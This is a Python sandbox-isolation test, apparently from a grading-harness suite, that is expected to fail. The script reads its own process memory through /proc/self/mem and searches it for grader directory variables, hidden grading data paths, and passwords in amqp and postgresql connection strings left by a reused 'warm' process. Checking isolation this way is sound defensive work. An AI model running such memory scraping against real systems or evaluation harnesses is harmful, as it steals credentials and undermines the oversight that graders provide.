# /// attack
# row = "own"
# aim = "Search the memory that it inherited from the warm process for what others left there."
# runtimes = ["docker"]
# verdicts = ["rejected"]
# must_print = ["\"reached\": []"]
# must_not_print = ["\"reached\": [\""]
# ///
import ctypes
import json
import os
import re

ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE
# Written so that no pattern matches its own text.
NEEDLES = [rb"GRADER_[A-Z]+_DIR=", rb"Trusted scor[i]ng of `ddp", rb"/hidd[e]n/Fashion", rb"amqps?://[a-z]+:[a-z]", rb"postgresql[+a-z]*://[a-z]+:[^@ ]{1,80}@[a-z]"]
found = set()
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", buffering=0) as memory:
    for line in maps:
        span, rights, *_rest = line.split()
        name = line.split(maxsplit=5)[5].strip() if len(line.split(maxsplit=5)) > 5 else ""
        if "r" not in rights or name.startswith(("/usr", "/lib", "/opt", "/dev", "[v")):
            continue
        low, high = (int(part, 16) for part in span.split("-"))
        for start in range(low, high, 8 << 20):
            try:
                memory.seek(start)
                block = memory.read(min(8 << 20, high - start))
            except (OSError, ValueError, OverflowError):
                break
            found |= {number for number, needle in enumerate(NEEDLES) if re.search(needle, block)}
print("ATTACK", json.dumps({"reached": sorted(map(str, found))}), flush=True)
